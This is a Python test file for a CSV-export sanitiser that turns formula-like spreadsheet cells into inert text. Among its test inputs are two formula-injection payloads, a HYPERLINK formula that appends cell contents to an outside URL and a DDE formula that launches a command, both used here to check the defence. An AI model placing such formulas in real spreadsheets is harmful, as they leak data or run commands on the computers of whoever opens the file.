"""No cell that came from a file is run by the spreadsheet that shows it."""

import pytest

from slipcast.csv_safety import neutral


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "=",
        "-",
        " =1",
        "   @x",
        " \t=1",
        '=HYPERLINK("http://x"&A1,"y")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_what_begins_like_a_formula_becomes_text(cell):
    assert neutral(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["Roof", "a=b", "A-1", "1+1", "", "  ", "'=1", '"=1"', "ü@x", "100%", " Roof = 1"])
def test_what_is_text_stays_as_it_is(cell):
    assert neutral(cell) == cell


@pytest.mark.parametrize(("cell", "text"), [(None, ""), (0, "0"), (1.5, "1.5"), (-1.5, "'-1.5"), (False, "False")])
def test_what_is_no_text_becomes_text(cell, text):
    assert neutral(cell) == text
